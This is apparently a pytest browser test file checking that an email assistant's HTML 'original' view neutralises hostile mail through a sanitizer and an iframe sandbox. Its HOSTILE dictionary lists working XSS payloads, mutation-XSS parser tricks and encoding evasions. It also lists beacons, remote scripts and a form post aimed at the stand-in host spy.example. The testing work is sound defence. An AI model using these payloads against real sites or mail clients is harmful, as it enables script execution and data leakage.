"""Hostile HTML as the original of a mail, in a real browser: nothing runs, nothing is fetched, nothing moves."""

import pytest

from assistant.records import Message
from assistant.tools import html

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

SPY = "http://spy.example"
OWN = "top.postMessage('owned','*');parent.document.title='owned';document.title='owned';alert(1)"
HOSTILE = {
    "script": f"<script>{OWN}</script>",
    "remote script": f"<script src={SPY}/x.js></script>",
    "svg onload": f'<svg onload="{OWN}"><script>{OWN}</script><animate onbegin="{OWN}" attributeName=x dur=1s>',
    "img onerror": f'<img src=x onerror="{OWN}"><img src="{SPY}/pixel.png"><img srcset="{SPY}/2x.png 2x">',
    "event handlers": f'<body onload="{OWN}"><details open ontoggle="{OWN}"><input autofocus onfocus="{OWN}">',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={SPY}/away">',
    "base": f'<base href="{SPY}/"><a href="x">x</a><img src="rel.png">',
    "form": f'<form action="{SPY}/post" id=f><input name=a value=b><button id=go>Go</button></form>',
    "css": f'<style>@import "{SPY}/a.css"; body{{background:url({SPY}/b.png)}} @font-face{{font-family:x;src:url({SPY}/f)}}'
    f' *{{font-family:x}}</style><link rel=stylesheet href="{SPY}/c.css"><p style="background:url({SPY}/d.png)">x</p>',
    "links ahead": f'<link rel=prefetch href="{SPY}/p"><link rel=dns-prefetch href="{SPY}"><link rel=preconnect href="{SPY}">',
    "frames": f'<iframe src="{SPY}/f"></iframe><iframe srcdoc="<script>{OWN}</script>"></iframe><object data="{SPY}/o">'
    f'</object><embed src="{SPY}/e">',
    "media": f'<video src="{SPY}/v" poster="{SPY}/p.png" autoplay></video><audio src="{SPY}/a" autoplay></audio>',
    "table background": f'<table background="{SPY}/t.png"><tr><td background="{SPY}/u.png">x</td></tr></table>',
    "javascript link": f'<a id=go href="javascript:{OWN}">x</a><a href="data:text/html,<script>{OWN}</script>">y</a>',
    "ping": f'<a id=go href="#" ping="{SPY}/ping">x</a>',
    "mutation 1": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={OWN}&gt;">',
    "mutation 2": f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
    "mutation 3": f'<svg></p><style><a id="</style><img src=1 onerror={OWN}>">',
    "mutation 4": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={OWN} src>\">",
    "mutation 5": f"<listing>&lt;img onerror=\"{OWN}\" src=x&gt;</listing><xmp><img src=x onerror='{OWN}'></xmp>",
    "template": f"<template><img src=x onerror='{OWN}'></template><select><template><img src=x onerror='{OWN}'>",
    "end of page": f"</body></html><script>{OWN}</script><plaintext><script>{OWN}</script>",
    "conditional": f"<!--[if true]><script>{OWN}</script><![endif]--><?xml version='1.0'?><![CDATA[<script>{OWN}</script>]]>",
    "open window": f"<a id=go target=_top href='{SPY}/top'>x</a><area href='{SPY}/area'>",
    "utf-7": f"+ADw-script+AD4-{OWN}+ADw-/script+AD4-",
    "nul in a tag": f"<scr\x00ipt>{OWN}</scr\x00ipt><img\x00src=x onerror={OWN}>",
}  # fmt: skip


@pytest.fixture
def original(opened, parts, world):
    """original(html) opens the page of an original with that HTML and lets it do its worst."""

    def show(source, *, raw=False):
        with parts.services.sessions.begin() as session:
            session.get_one(Message, world.message).html = source
        page = opened()
        asked, popped = [], []
        page.context.on("page", lambda other: popped.append(other.url))
        page.on("dialog", lambda dialog: (popped.append(dialog.message), dialog.dismiss()))
        page.context.route(
            "http://spy.example/**", lambda route: (asked.append(route.request.url), route.abort())
        )
        page.evaluate("addEventListener('message', event => { document.title = 'owned' })")
        page.goto(f"/messages/{world.message}/original")
        page.evaluate("addEventListener('message', event => { document.title = 'owned' })")
        page.locator("iframe").scroll_into_view_if_needed()
        page.wait_for_timeout(300)
        return page, asked, popped

    return show


@pytest.mark.parametrize("kind", HOSTILE)
def test_the_original_of_a_hostile_mail_does_nothing(original, world, kind):
    page, asked, popped = original(HOSTILE[kind])
    frame = next(f for f in page.frames if f.url.endswith("/html"))
    if kind not in ("javascript link", "ping", "form") and frame.locator("#go").count():
        frame.locator("#go").first.click(timeout=2000)
        page.wait_for_timeout(200)
    assert (asked, popped) == ([], [])
    assert page.url.endswith(f"/messages/{world.message}/original")
    assert "owned" not in page.title()
    assert len(page.frames) == 2


@pytest.mark.parametrize("kind", HOSTILE)
def test_even_uncleaned_html_runs_nothing_and_reaches_nobody_in_the_frame(
    opened, parts, world, kind, monkeypatch, browser, address
):
    """The second wall: were the cleaner to miss something, sandbox and policy hold by themselves."""
    monkeypatch.setattr("assistant.web.originals.safe", lambda source: source)
    with parts.services.sessions.begin() as session:
        session.get_one(Message, world.message).html = HOSTILE[kind].replace("\x00", "")
    context = browser.new_context(base_url=address)
    source = opened()
    context.add_cookies(source.context.cookies())
    page, reached = context.new_page(), []
    page.on("dialog", lambda dialog: (reached.append(dialog.message), dialog.dismiss()))
    context.route("http://spy.example/**", lambda route: (reached.append(route.request.url), route.abort()))
    page.goto(f"/messages/{world.message}/original")
    page.locator("iframe").scroll_into_view_if_needed()
    page.wait_for_timeout(300)
    if kind == "meta refresh":  # the frame itself may be led away, to a page that has no rights either
        reached = [url for url in reached if not url.endswith("/away")]
    assert reached == []
    assert "owned" not in page.title()
    assert page.url.endswith("/original")
    context.close()


def test_the_cleaner_lets_no_handler_style_or_foreign_address_through():
    for kind, source in HOSTILE.items():
        clean = html.safe(source)
        for gone in (
            "<script",
            "onerror=",
            "onload=",
            "<style",
            "<form",
            "<base",
            "<meta",
            "<iframe",
            "<svg",
            "ping=",
        ):
            assert gone not in clean.lower().replace("&lt;", ""), (kind, gone, clean)
        assert "javascript:" not in clean.replace("&lt;", "") or "href" not in clean, kind
